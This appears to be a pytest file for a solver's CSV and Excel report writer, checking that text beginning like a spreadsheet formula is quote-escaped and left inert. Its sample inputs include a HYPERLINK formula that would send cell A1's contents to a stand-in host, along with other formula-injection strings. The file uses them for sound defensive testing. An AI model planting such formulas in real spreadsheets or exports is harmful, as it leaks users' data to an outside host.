"""Formula injection: text from the input is inert in every CSV and workbook cell written."""

from __future__ import annotations

import csv
from dataclasses import replace
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest
from test_report import CATALOG, WORKLOADS, sample_plan

from solver.report.cells import FORMULA_START, csv_frame, csv_text
from solver.report.workbook import write_workbook
from solver.sweep.report import write_sweep_files
from solver.sweep.rows import ScenarioRow, SweepRun
from solver.sweep.scenarios import Scenario

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
EVIL = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("name", EVIL)
def test_text_that_starts_like_a_formula_gets_a_quote(name):
    assert csv_text(name) == "'" + name


@pytest.mark.parametrize("value", ["chat-7b", "a=b", "", 3, -2.5, None, True])
def test_other_values_are_unchanged(value):
    assert csv_text(value) == value


def test_csv_frame_escapes_text_columns_and_headers_only():
    df = pd.DataFrame({"n": [-1, 2], "s": ["=x", "ok"], "=h": ["a", None]})
    safe = csv_frame(df)
    assert list(safe.columns) == ["n", "s", "'=h"]
    assert list(safe["n"]) == [-1, 2] and list(safe["s"]) == ["'=x", "ok"]
    assert list(df["s"]) == ["=x", "ok"]  # the input frame is left as it was


def _row(i: int, served, unserved, error=None) -> ScenarioRow:
    s = Scenario(i, 10_000.0 * i, 1.0, 0.2)
    return ScenarioRow(
        s, "optimal", 9_000.0 * i, 1.0, 2.0, tuple(served), tuple(unserved), {}, None, error=error
    )


def test_sweep_csv_cells_are_inert(tmp_path):
    rows = [_row(1, [], EVIL), _row(2, EVIL, [], error=HYPERLINK)]
    rows += [_row(3 + i, [name, "ok"], ["ok2", name]) for i, name in enumerate(EVIL)]
    run = SweepRun(rows, None, False, 0, 0.1, 1, len(rows))
    sweep = SimpleNamespace(wf=SimpleNamespace(name="evil"), price_targets=())
    files, _ = write_sweep_files(run, sweep, tmp_path, {}, workbook=False)
    with open(files[0], newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    for rec in table:
        for column, cell in rec.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    assert table[0]["unserved"].startswith("'" + HYPERLINK)
    assert table[1]["served"].startswith("'" + HYPERLINK)
    assert table[1]["error"] == "'" + HYPERLINK
    assert [r["served"] for r in table[2:]] == [f"'{n}, ok" for n in EVIL]
    assert [r["unserved"] for r in table[2:]] == [f"ok2, {n}" for n in EVIL]


def test_workbook_unserved_cells_are_literal_text(tmp_path):
    result, wf, catalog = sample_plan()
    first = replace(result.options[0], unserved=(HYPERLINK, "@SUM(A1)"))
    result = replace(result, options=(first, *result.options[1:]))
    out = write_workbook(
        tmp_path / "q3.xlsx", result, wf, catalog, {"workloads": WORKLOADS, "catalog": CATALOG}
    )
    ws = openpyxl.load_workbook(out)["Summary"]
    row = next(c.row for c in ws["A"] if c.value == "Unserved workloads")
    cell = ws.cell(row, 3)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == f"{HYPERLINK}\n@SUM(A1)"
